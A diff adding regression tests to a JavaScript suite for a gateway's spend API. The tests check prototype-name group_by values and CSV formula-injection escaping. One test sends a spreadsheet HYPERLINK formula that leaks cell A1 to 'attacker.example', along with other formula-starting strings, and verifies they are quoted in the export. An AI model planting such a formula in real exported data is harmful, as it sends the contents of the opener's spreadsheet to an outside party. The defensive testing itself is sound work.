@@ -115,5 +115,24 @@ describe('spend API', () => {
     expect((await spend('?format=xml')).status).toBe(400)
     const noAuth = await fetch(`${gw.url}/admin/v1/spend`)
     expect(noAuth.status).toBe(401)
+    // Names on Object.prototype are not groupings either (they were a 500).
+    for (const g of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
+      const r = await spend(`?group_by=${g}`)
+      expect(r.status, g).toBe(400)
+      expect(r.body).toMatchObject({ error: { code: 'invalid_request', param: 'group_by' } })
+    }
+  })
+
+  // Last: it adds ledger rows the exact totals above do not count.
+  it('CSV: a cell a spreadsheet would run as a formula (a model name a client sent) starts with a quote', async () => {
+    const formulas = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\tx']
+    for (const model of formulas) expect((await chat(gw.url, K3, { model, messages: [{ role: 'user', content: 'x' }] })).status).toBe(404)
+    expect(await ledgerCount(gw.url, 6 + formulas.length)).toBe(6 + formulas.length)
+    const r = await spend('?group_by=model&format=csv')
+    const lines = r.text.split('\n')
+    expect(lines).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")",1,0,0,0,0`)
+    for (const cell of ["'+1+1", "'-2+3", "'@SUM(A1)", "'\tx"]) expect(lines).toContain(`${cell},1,0,0,0,0`)
+    expect(lines).toContain('a,3,3000,1500,0,0.006')
+    expect(lines.filter((l) => /^[=+\-@\t\r]/.test(l))).toEqual([])
   })
 })
